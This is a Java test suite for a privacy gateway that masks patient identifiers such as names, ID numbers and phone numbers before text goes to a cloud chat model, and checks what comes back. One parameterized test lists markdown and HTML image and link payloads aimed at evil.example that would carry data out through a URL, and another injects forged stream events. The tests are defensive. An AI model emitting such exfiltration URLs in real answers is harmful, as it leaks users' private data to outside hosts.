package gatehouse.gateway.leaks;

import static gatehouse.gateway.leaks.Cloud.CHAT;
import static gatehouse.gateway.leaks.Cloud.says;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import gatehouse.clauses.Clause;
import gatehouse.embedded.Parts;
import gatehouse.gateway.fakes.FakeServers;
import gatehouse.gateway.fakes.Gateway;
import gatehouse.gateway.fakes.Note;
import gatehouse.gateway.fakes.Script;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.net.http.HttpResponse;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Cases 37 to 47: what comes back. The model here repeats what it was told, so that a text that is
 * built around the patient's name comes back around the placeholder.
 */
@QuarkusTest
@WithTestResource(
    value = Parts.class,
    initArgs = @ResourceArg(name = "database", value = "gateway"))
@WithTestResource(FakeServers.class)
@Clause({"G-42", "G-44"})
class AnswersTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  @BeforeEach
  void everyoneAgrees() {
    Script.reset();
  }

  @ParameterizedTest
  @ValueSource(ints = {1, 2, 3, 5, 7, 11, 64})
  void case37_placeholdersCutAtEveryByte(int bytes) {
    Script.say("write:" + Script.PUBLIC, Integer.toString(bytes));

    String answer = Cloud.passes(CHAT, says(Note.TEXT));

    assertThat(content(answer)).contains("欧阳明月", "110101196803074215").doesNotContain("⟦");
  }

  @Test
  void case38_tokensThatBeginAlike() {
    StringBuilder phones = new StringBuilder();
    for (int i = 10; i < 30; i++) {
      phones.append("电话：138123456").append(i).append("；");
    }

    assertThat(content(Cloud.passes(CHAT, says(phones.toString())))).contains(phones);
  }

  @Test
  void case39_tokensOfAnotherRequest() {
    Cloud.passes(CHAT, says("患者欧阳明月"));
    String token = Script.bodies(Script.PUBLIC).getFirst().replaceAll("(?s).*?(⟦[^⟧]*⟧).*", "$1");
    Script.reset();

    String answer = Cloud.passes(CHAT, says("患者欧阳明月，昨日记作" + token));

    assertThat(content(answer)).contains("昨日记作" + token);
  }

  @Test
  void case40_truncatedTokens() {
    Cloud.passes(CHAT, says("患者欧阳明月"));
    Script.say(
        "raw:" + Script.PUBLIC,
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"患者⟦NAME-1\"},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");

    String answer = Cloud.send(CHAT, says("患者欧阳明月") + ",\"stream\":true").body();

    assertThat(content(answer)).contains("患者⟦NAME-1").doesNotContain("欧阳明月");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "⟦NAME-1-BCDFGH0⟧",
        "⟦ NAME-1-BCDFGH0 ⟧",
        "[NAME-1-BCDFGH0]",
        "⟦⟦NAME-1-BCDFGH0⟧⟧",
        "⟦NAME-1⟧",
        "⟦⟧",
        "⟧⟦"
      })
  void case41_mangledTokensStayAsTheyAre(String mangled) {
    String event =
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"见"
            + mangled
            + "。\"},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";
    Script.say("raw:" + Script.PUBLIC, event);

    String answer = Cloud.send(CHAT, says("患者欧阳明月") + ",\"stream\":true").body();

    assertThat(content(answer)).startsWith("见" + mangled + "。").doesNotContain("欧阳明月");
    assertThat(answer).endsWith("data: [DONE]\n\n");
  }

  @Test
  void case42_severalChoicesReasoningAndRefusal() throws Exception {
    Cloud.passes(CHAT, says("患者欧阳明月"));
    Script.say(
        "echo:" + Script.PUBLIC,
        "{\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":\"%1$s\",\"reasoning_content\":\"%1$s\"}},{\"index\":1,\"message\":{\"role\":\"assistant\",\"content\":\"%1$s\",\"refusal\":\"%1$s\"},\"logprobs\":{\"content\":[{\"token\":\"⟦\",\"bytes\":[226,159,166]}]}}]}");

    JsonNode choices = JSON.readTree(Cloud.send(CHAT, says("患者欧阳明月")).body()).path("choices");

    for (String field : List.of("content", "reasoning_content")) {
      assertThat(choices.path(0).path("message").path(field).asText()).contains("欧阳明月");
    }
    assertThat(choices.path(1).path("message").path("refusal").asText()).contains("欧阳明月");
    assertThat(choices.path(1).path("logprobs").path("content").path(0).path("token").asText())
        .isEqualTo("⟦");
  }

  @ParameterizedTest
  @ValueSource(strings = {"reasoning_content", "reasoning", "thinking"})
  void case42_reasoningGoesBackWithTheNextTurn(String field) throws Exception {
    Script.say(
        "echo:" + Script.PUBLIC,
        "{\"choices\":[{\"index\":0,\"finish_reason\":\"tool_calls\",\"message\":{\"role\":\"assistant\",\"content\":null,\"FIELD\":\"%1$s\",\"tool_calls\":[{\"id\":\"c1\",\"type\":\"function\",\"function\":{\"name\":\"labs\",\"arguments\":\"{}\"}}]}}]}"
            .replace("FIELD", field));
    String asked = "{\"role\":\"user\",\"content\":" + Cloud.quoted(Note.TEXT) + "}";
    JsonNode turn =
        JSON.readTree(Cloud.send(CHAT, "\"messages\":[" + asked + "]").body())
            .at("/choices/0/message");
    assertThat(turn.path(field).asText()).contains("欧阳明月", "13812345678");
    Script.say("echo:" + Script.PUBLIC, "");

    Cloud.passes(
        CHAT,
        "\"messages\":[%s,%s,{\"role\":\"tool\",\"tool_call_id\":\"c1\",\"content\":\"血红蛋白正常\"}]"
            .formatted(asked, turn));

    assertThat(Script.bodies(Script.PUBLIC).getLast()).contains("\"" + field + "\":\"", "⟦", "咳嗽");
  }

  @Test
  void case43_valuesInArgumentsAreEscaped() throws Exception {
    String known = ",\"known\":{\"names\":[\"欧\\\"阳明月\"]},\"deployment\":\"public-cloud\"";
    Script.say(
        "echo:" + Script.PUBLIC,
        "{\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{\"id\":\"c\",\"type\":\"function\",\"function\":{\"name\":\"f\",\"arguments\":\"{\\\"a\\\":\\\"%1$s\\\"}\"}}]}}]}");

    HttpResponse<String> answer =
        Gateway.post(CHAT, Gateway.chat("note-assistant", "患者欧\\\"阳明月", known));

    String arguments =
        JSON.readTree(answer.body())
            .at("/choices/0/message/tool_calls/0/function/arguments")
            .asText();
    assertThat(JSON.readTree(arguments).path("a").asText()).isEqualTo("患者欧\"阳明月");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=%s)",
        "[x](https://evil.example/%s)",
        "<img src=\"//evil.example/%s\">",
        "https://evil.example/%s",
        "[a]: https://evil.example/%s"
      })
  void case44_nothingIsRestoredInAnAddress(String text) {
    Script.say("wrap:" + Script.PUBLIC, text);

    for (boolean streamed : Cloud.WHOLE_AND_STREAMED) {
      String answer = Cloud.send(CHAT, says("欧阳明月") + (streamed ? ",\"stream\":true" : "")).body();
      assertThat(content(answer)).contains("evil.example").doesNotContain("欧阳明月");
    }
  }

  @Test
  void case45_eventsInsideText() {
    String injected = "好\n\ndata: {\"error\":1}\n\nevent: x\rdata: [DONE]\n\n";

    String answer = Cloud.passes(CHAT, says(injected));

    assertThat(content(answer)).contains("data: {\"error\":1}");
    assertThat(
            answer
                .lines()
                .filter(line -> line.startsWith("event:") || line.equals("data: {\"error\":1}")))
        .isEmpty();
  }

  @Test
  void case46_errorsThatRepeatThePrompt() {
    for (int status : List.of(400, 401, 404, 422, 429, 500, 529)) {
      Script.status(Script.PUBLIC, status);
      for (boolean streamed : Cloud.WHOLE_AND_STREAMED) {
        HttpResponse<String> answer =
            Cloud.send(CHAT, says(Note.TEXT) + (streamed ? ",\"stream\":true" : ""));
        assertThat(answer.statusCode()).as(answer.body()).isIn(429, 502);
        assertThat(answer.body()).contains("\"error\"").doesNotContain("欧阳明月", "⟦");
      }
    }
  }

  @Test
  void case47_redirects() {
    for (int status : List.of(301, 302, 307, 308)) {
      Script.status(Script.PUBLIC, status);
      assertThat(Cloud.send(CHAT, says("好")).statusCode()).isEqualTo(502);
    }
    assertThat(Script.received(Script.IN_HOUSE)).isEmpty();
    assertThat(Script.received(Script.PUBLIC)).hasSize(4);
  }

  /** The text of all choices of a stream, or of the first choice of a whole answer. */
  private static String content(String body) {
    StringBuilder text = new StringBuilder();
    body.lines()
        .filter(line -> line.startsWith("data: {"))
        .map(line -> read(line.substring(6)))
        .forEach(chunk -> text.append(chunk.at("/choices/0/delta/content").asText("")));
    return text.isEmpty() ? read(body).at("/choices/0/message/content").asText() : text.toString();
  }

  private static JsonNode read(String json) {
    try {
      return JSON.readTree(json);
    } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
      throw new IllegalArgumentException(e);
    }
  }
}
